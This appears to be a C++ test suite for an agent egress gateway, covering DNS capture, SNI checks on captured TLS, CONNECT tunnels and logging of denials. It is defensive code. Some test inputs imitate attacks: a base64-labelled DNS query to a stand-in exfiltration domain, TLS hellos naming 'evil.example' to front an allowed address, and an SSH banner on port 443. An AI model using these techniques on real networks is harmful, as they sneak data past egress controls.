// DNS, captured TLS and captured TCP as an agent that knows nothing of a proxy sees them.
#include <gmock/gmock.h>

#include "base/limits/gateway.h"
#include "base/limits/ledger.h"
#include "gateway/egress/dns_door.h"
#include "gateway/egress/tls_door.h"
#include "gateway/testing/gateway_fixture.h"
#include "wire/tls_session.h"

namespace hexr::gateway {
namespace {

using ledger::RecordKind;
using runtime::UniqueFd;
using testing::AgentNet;
using testing::GatewayFixture;
using ::testing::HasSubstr;
using testing::MakeInstanceId;
using ::testing::Not;
using ::testing::StartsWith;
using testing::TestServer;

std::string Query(std::string_view name, uint16_t type, uint16_t id = 0x1234) {
  std::string out{static_cast<char>(id >> 8), static_cast<char>(id), 1, 0, 0, 1, 0, 0, 0, 0, 0, 0};
  while (!name.empty()) {
    const std::string_view label = name.substr(0, name.find('.'));
    out += static_cast<char>(label.size());
    out += label;
    name.remove_prefix(std::min(name.size(), label.size() + 1));
  }
  out += '\0';
  for (const int b : {type >> 8, type & 255, 0, 1}) out += static_cast<char>(b);
  return out;
}

// What a TLS client sends first; `name` empty or an address: no SNI.
std::string Hello(std::string_view name) {
  const auto context =
      wire::TlsContext::ForClient({.alpn = {"h2"}, .identity = nullptr, .verifier = [](const auto&) { return Ok(); }});
  auto session = wire::TlsSession::Connect(*context, name);
  std::string out;
  EXPECT_TRUE(session.ok());
  (*session)->TakeOutput(out);
  return out;
}

struct Capture : GatewayFixture {
  AgentNet net = AgentNet::Make({{true, 53}, {false, 53}, {false, 443}, {false, 5432}, {false, 15001}});
  TestServer server;
  InstanceId id = MakeInstanceId(1);

  void SetUp() override {
    Configure("{allow: ['api.test:443', '*.test:5432', '93.184.216.34:443'], resolve: {api.test: '" + server.place() +
              "', db.test: '" + server.place() + "'}}");
    Start();
    ASSERT_TRUE(
        BringUp(id, {{"dns_udp", 53}, {"dns_tcp", 53}, {"capture", 443}, {"capture", 5432}, {"proxy", 15001}}, net)
            .ok());
  }
  std::string Udp(const std::string& query, const std::string& resolver_address = "198.18.0.53:53") {
    const UniqueFd s = net.Connect(resolver_address, true);
    EXPECT_EQ(send(s.get(), query.data(), query.size(), 0), static_cast<ssize_t>(query.size()));
    return Read(s.get());
  }
  static int Code(const std::string& answer) { return answer.size() < 12 ? -1 : answer[3] & 15; }
  static int Answers(const std::string& answer) { return answer.size() < 12 ? -1 : answer[7]; }
  // The address at the end of an answer with one record.
  static std::string Address(const std::string& answer, size_t size = 4) {
    return IpAddress::FromBytes(AsBytes(std::string_view(answer).substr(answer.size() - size)))->ToString();
  }
  std::string Resolve(std::string_view name) { return Address(Udp(Query(name, 1))); }
};

TEST_F(Capture, AnAllowedNameHasOneStableAddressOfEachFamily) {
  const std::string first = Udp(Query("API.test", 1, 0xbeef));
  EXPECT_EQ(first.substr(0, 2), "\xbe\xef");
  EXPECT_EQ(Code(first), 0);
  ASSERT_EQ(Answers(first), 1);
  const auto byte = [&](size_t from_end) { return static_cast<uint8_t>(first[first.size() - from_end]); };
  EXPECT_EQ(byte(10) << 24 | byte(9) << 16 | byte(8) << 8 | byte(7), static_cast<int>(limits::kDnsTtlSeconds));
  const std::string address = Address(first);
  EXPECT_TRUE(SyntheticNames::IsSynthetic(*IpAddress::Parse(address))) << address;
  EXPECT_EQ(Resolve("api.test"), address);
  EXPECT_NE(Resolve("db.test"), address);
  const std::string v6 = Address(Udp(Query("api.test", 28)), 16);
  EXPECT_THAT(v6, StartsWith("fd00:6865:7872:d:"));
  // Asked at any resolver address, answered from there (a connected socket takes no other).
  EXPECT_EQ(Address(Udp(Query("api.test", 1), "93.184.8.8:53")), address);
  // Recorded once per name, not once per question.
  EXPECT_EQ(Records(RecordKind::kDecision, "service", "dns").size(), 2u);
  EXPECT_TRUE(known_names.asked().empty()) << "nothing is forwarded";
}

TEST_F(Capture, OtherNamesDoNotExistAndAreRecorded) {
  for (int i = 0; i < 3; ++i) {
    const std::string answer = Udp(Query("c2VjcmV0.exfil.example", 1));
    EXPECT_EQ(Code(answer), 3);
    EXPECT_EQ(Answers(answer), 0);
  }
  const auto denied = Records(RecordKind::kDecision, "verdict", "deny");
  ASSERT_EQ(denied.size(), 1u);
  EXPECT_EQ(denied[0].FindString("host"), "c2vjcmv0.exfil.example");
  EXPECT_EQ(gateway->metrics().dns_refused, 3u);
  EXPECT_TRUE(known_names.asked().empty());
}

TEST_F(Capture, OtherTypesAreEmptyAndGarbageIsAnError) {
  for (const uint16_t type : {uint16_t{16}, uint16_t{65}, uint16_t{15}, uint16_t{255}}) {
    const std::string answer = Udp(Query("api.test", type));
    EXPECT_EQ(Code(answer), 0) << type;
    EXPECT_EQ(Answers(answer), 0) << type;
  }
  EXPECT_EQ(Code(Udp(Query("7.0.18.198.in-addr.arpa", 12))), 3);
  EXPECT_EQ(Code(Udp(Query("api.test", 1) + "x")), 1);
  EXPECT_EQ(Code(Udp(Query("2130706433", 1))), 3) << "a number is no name";
  EXPECT_EQ(Code(Udp(Query("2130706433", 1))), 3);
  // Each leaves a record: what was asked as a digest, once for a question.
  const auto malformed = Records(RecordKind::kDecision, "reason", "malformed");
  ASSERT_EQ(malformed.size(), 1u);
  EXPECT_EQ(malformed[0].FindString("service"), "dns");
  EXPECT_EQ(malformed[0].Find("host"), nullptr);
  const auto no_host = Records(RecordKind::kDecision, "rule", "no_host_name");
  ASSERT_EQ(no_host.size(), 2u);
  ASSERT_NE(no_host[0].Find("target"), nullptr);
  EXPECT_THAT(wire::ToJson(no_host[0]), Not(HasSubstr("arpa")));
}

TEST_F(Capture, DnsOverTcp) {
  const UniqueFd s = net.Connect("198.18.0.53:53");
  const std::string q = Query("api.test", 1);
  const std::string framed = std::string{0, static_cast<char>(q.size())} + q;
  Write(s.get(), framed + framed.substr(0, 5));
  std::string answer = Read(s.get());
  Write(s.get(), framed.substr(5));
  EXPECT_EQ(Code(answer.substr(2)), 0);
  EXPECT_EQ(Address(answer), Resolve("api.test"));
  EXPECT_EQ(Code(Read(s.get()).substr(2)), 0);
  Write(s.get(), std::string("\xff\xff", 2) + std::string(100, 'x'));
  EXPECT_THAT(Read(s.get()), ::testing::AnyOf("", "!"));
}

TEST_F(Capture, DnsIsHeldToARate) {
  const UniqueFd s = net.Connect("198.18.0.53:53", true);
  const std::string q = Query("api.test", 1);
  for (uint32_t i = 0; i < 3 * limits::kMaxDnsQueriesPerSecond; ++i) {
    ASSERT_EQ(send(s.get(), q.data(), q.size(), 0), static_cast<ssize_t>(q.size()));
    if (i % 64 == 63) loop.RunFor(std::chrono::milliseconds(1));
  }
  Until([&] { return gateway->metrics().dns_dropped > 0; });
  EXPECT_EQ(Records(RecordKind::kDecision, "rule", "dns_rate").at(0).FindString("reason"), "limit");
  EXPECT_LE(Records(RecordKind::kDecision, "rule", "dns_rate").size(),
            2 * limits::kDenialsPerSecond * limits::kRepeatBurstSeconds);
}

TEST_F(Capture, RefusalsBeyondTheirRateAreCountedInTheLog) {
  const UniqueFd s = net.Connect("198.18.0.53:53", true);
  for (uint32_t i = 0; i < 2 * limits::kDenialsPerSecond * limits::kRepeatBurstSeconds; ++i) {
    const std::string q = Query("n" + std::to_string(i) + ".exfil.example", 1);
    ASSERT_EQ(send(s.get(), q.data(), q.size(), 0), static_cast<ssize_t>(q.size()));
    if (i % 64 == 63) loop.RunFor(std::chrono::milliseconds(1));
  }
  Until([&] { return !Records(RecordKind::kDecision, "event", "repeated").empty(); });
  EXPECT_GE(Records(RecordKind::kDecision, "verdict", "deny").size(),
            limits::kDenialsPerSecond * limits::kRepeatBurstSeconds);
}

TEST_F(Capture, SyntheticNamesAreBounded) {
  SyntheticNames names(id);
  for (size_t i = 0; i < limits::kMaxSyntheticNames; ++i) {
    ASSERT_TRUE(names.Assign(*HostName::Parse("n" + std::to_string(i) + ".test")).ok());
  }
  EXPECT_EQ(names.Assign(*HostName::Parse("one-more.test")).error().code(), ErrorCode::kResourceExhausted);
  EXPECT_TRUE(names.Assign(*HostName::Parse("n7.test")).ok());
  EXPECT_EQ(*names.Find(names.Assign(*HostName::Parse("n7.test"))->v6), *HostName::Parse("n7.test"));
}

TEST_F(Capture, TlsIsRelayedUntouchedWhenItsNamesAgree) {
  const UniqueFd agent = net.Connect(Resolve("api.test") + ":443");
  const std::string hello = Hello("api.test");
  Write(agent.get(), hello.substr(0, 20));
  loop.RunFor(std::chrono::milliseconds(5));
  EXPECT_FALSE(server.TryAccept()) << "nothing is dialled before the whole hello is there";
  Write(agent.get(), hello.substr(20) + "more");
  const UniqueFd upstream = Accept(server);
  std::string got;
  while (got.size() < hello.size() + 4) got += Read(upstream.get());
  EXPECT_TRUE(got == hello + "more");
  Write(upstream.get(), "server hello");
  EXPECT_EQ(Read(agent.get()), "server hello");
  const auto allowed = Records(RecordKind::kDecision, "door", "captured_tls");
  ASSERT_EQ(allowed.size(), 1u);
  EXPECT_EQ(allowed[0].FindString("host"), "api.test");
  EXPECT_EQ(allowed[0].FindString("sni"), "api.test");
}

constexpr std::string_view kAccessDenied("\x15\x03\x03\x00\x02\x02\x31", 7);
constexpr std::string_view kUnrecognizedName("\x15\x03\x03\x00\x02\x02\x70", 7);

TEST_F(Capture, TlsThatAsksForAnotherNameIsRefusedWithAnAlert) {
  const std::string address = Resolve("api.test");
  for (const char* name : {"evil.example", "sub.api.test", "198.18.0.1"}) {
    const UniqueFd agent = net.Connect(address + ":443");
    Write(agent.get(), Hello(name));
    EXPECT_EQ(ReadAll(agent.get()), kUnrecognizedName) << name;
  }
  EXPECT_FALSE(server.TryAccept());
  EXPECT_EQ(Records(RecordKind::kDecision, "rule", "sni_mismatch").size(), 2u);
  EXPECT_EQ(Records(RecordKind::kDecision, "rule", "sni_missing").size(), 1u);
}

TEST_F(Capture, TlsToAnAddressThatDnsNeverGaveGoesByTheAddress) {
  // Not in the list, whatever SNI says.
  const UniqueFd denied = net.Connect("93.184.7.7:443");
  Write(denied.get(), Hello("api.test"));
  EXPECT_EQ(ReadAll(denied.get()), kAccessDenied);
  // In the list: it is the address that is dialled, not what SNI resolves to.
  const UniqueFd agent = net.Connect("93.184.216.34:443");
  Write(agent.get(), Hello("api.test"));
  Until([&] { return !Records(RecordKind::kEgress, "event", "open").empty(); });
  EXPECT_EQ(Records(RecordKind::kEgress, "event", "open")[0].FindString("address"), "93.184.216.34:443");
  EXPECT_FALSE(server.TryAccept());
}

TEST_F(Capture, AnAddressOfAnEarlierGatewayIsKnownByItsName) {
  SyntheticNames before(id);
  const std::string address = before.Assign(*HostName::Parse("api.test"))->v4.ToString();
  const UniqueFd agent = net.Connect(address + ":443");
  Write(agent.get(), Hello("api.test"));
  EXPECT_TRUE(Accept(server));
  // An address that is nobody's stays closed.
  const UniqueFd other = net.Connect("198.18.77.77:443");
  Write(other.get(), Hello("api.test"));
  EXPECT_EQ(ReadAll(other.get()), kAccessDenied);
}

TEST_F(Capture, WhatIsNotTlsDoesNotPassPort443) {
  const UniqueFd agent = net.Connect(Resolve("api.test") + ":443");
  Write(agent.get(), "SSH-2.0-OpenSSH_9.2\r\n");
  EXPECT_THAT(ReadAll(agent.get()), StartsWith("\x15\x03\x03"));
  EXPECT_FALSE(server.TryAccept());
  EXPECT_EQ(Records(RecordKind::kDecision, "rule", "not_tls").size(), 1u);
}

TEST_F(Capture, AConnectTunnelToPort443IsHeldToItsName) {
  const auto open = [&](const std::string& first) {
    UniqueFd agent = net.Connect("127.0.0.1:15001");
    Write(agent.get(), "CONNECT api.test:443 HTTP/1.1\r\nHost: api.test:443\r\n\r\n" + first);
    const std::string established = "HTTP/1.1 200 Connection established\r\n\r\n";
    EXPECT_EQ(Read(agent.get(), established.size()), established);
    return agent;
  };
  const std::string hello = Hello("api.test");
  const UniqueFd good = open("");
  const UniqueFd upstream = Accept(server);
  Write(good.get(), hello);
  EXPECT_TRUE(Read(upstream.get()) == hello);
  // The hello in the same packet as the request.
  const UniqueFd eager = open(hello);
  const UniqueFd second = Accept(server);
  EXPECT_TRUE(Read(second.get()) == hello);
  // Another name: an alert, and the destination sees not one byte.
  const UniqueFd fronted = open(Hello("evil.example"));
  const UniqueFd third = Accept(server);
  EXPECT_EQ(ReadAll(fronted.get()), kUnrecognizedName);
  EXPECT_EQ(Read(third.get()), "");
  const UniqueFd plain = open("GET / HTTP/1.1\r\n\r\n");
  EXPECT_THAT(ReadAll(plain.get()), StartsWith("\x15\x03\x03"));
}

TEST_F(Capture, OtherPortsGoByNameToo) {
  const UniqueFd agent = net.Connect(Resolve("db.test") + ":5432");
  const UniqueFd upstream = Accept(server);
  Write(upstream.get(), "server speaks first");
  EXPECT_EQ(Read(agent.get()), "server speaks first");
  Write(agent.get(), "SELECT 1");
  EXPECT_EQ(Read(upstream.get()), "SELECT 1");
  EXPECT_EQ(Records(RecordKind::kDecision, "door", "captured_tcp").at(0).FindString("host"), "db.test");
  // The same name on a port that no rule names.
  const UniqueFd tls = net.Connect(Resolve("db.test") + ":443");
  Write(tls.get(), Hello("db.test"));
  EXPECT_EQ(ReadAll(tls.get()), kAccessDenied);
}

TEST_F(Capture, CallsAndDenialsAreCountedByInstance) {
  const auto counts = [&] {
    runtime::Envelope ask;
    ask.mutable_collect_metrics();
    std::optional<runtime::Envelope> answer;
    keeper->Call(ask, {}, std::chrono::seconds(5), [&](Result<runtime::Message> r) { answer = std::move(r->body); });
    Until([&] { return answer.has_value(); });
    EXPECT_EQ(answer->metrics().instances_size(), 1);
    EXPECT_EQ(answer->metrics().instances(0).instance(), id.value());
    return std::pair(answer->metrics().instances(0).calls(), answer->metrics().instances(0).denials());
  };
  EXPECT_EQ(counts(), std::pair(uint64_t{0}, uint64_t{0}));
  const UniqueFd agent = net.Connect(Resolve("db.test") + ":5432");
  const UniqueFd upstream = Accept(server);
  EXPECT_EQ(counts(), std::pair(uint64_t{2}, uint64_t{0}));  // the name, the connection
  Udp(Query("evil.example", 1));
  const UniqueFd denied = net.Connect(Resolve("db.test") + ":443");
  Write(denied.get(), Hello("db.test"));
  EXPECT_EQ(ReadAll(denied.get()), kAccessDenied);
  EXPECT_EQ(counts(), std::pair(uint64_t{4}, uint64_t{2}));
  // Allowed, and refused when its bytes were seen: one call.
  UniqueFd fronted = net.Connect("127.0.0.1:15001");
  Write(fronted.get(), "CONNECT api.test:443 HTTP/1.1\r\nHost: api.test:443\r\n\r\n" + Hello("evil.example"));
  ReadAll(fronted.get());
  EXPECT_EQ(counts(), std::pair(uint64_t{5}, uint64_t{3}));
}

TEST_F(Capture, EndingAnInstanceCutsAllOfIt) {
  const UniqueFd agent = net.Connect(Resolve("db.test") + ":5432");
  const UniqueFd upstream = Accept(server);
  runtime::Envelope down;
  down.mutable_instance_down()->set_instance(id.value());
  bool acked = false;
  spawner->Call(down, {}, std::chrono::seconds(5), [&](Result<runtime::Message> r) { acked = r.ok(); });
  Until([&] { return acked; });
  char c;
  EXPECT_TRUE(recv(agent.get(), &c, 1, MSG_DONTWAIT) < 0 && errno == ECONNRESET);
  EXPECT_TRUE(recv(upstream.get(), &c, 1, MSG_DONTWAIT) < 0 && errno == ECONNRESET);
  EXPECT_EQ(Records(RecordKind::kEgress, "how", "ended").size(), 1u);
  EXPECT_EQ(gateway->metrics().instances, 0u);
  EXPECT_EQ(gateway->metrics().connections_open, 0u);
}

TEST_F(Capture, AFailingJournalMakesDnsFailToo) {
  fail_journal = true;
  EXPECT_EQ(Code(Udp(Query("api.test", 1))), 2);
  fail_journal = false;
  EXPECT_EQ(Code(Udp(Query("api.test", 1))), 0);
}

}  // namespace
}  // namespace hexr::gateway
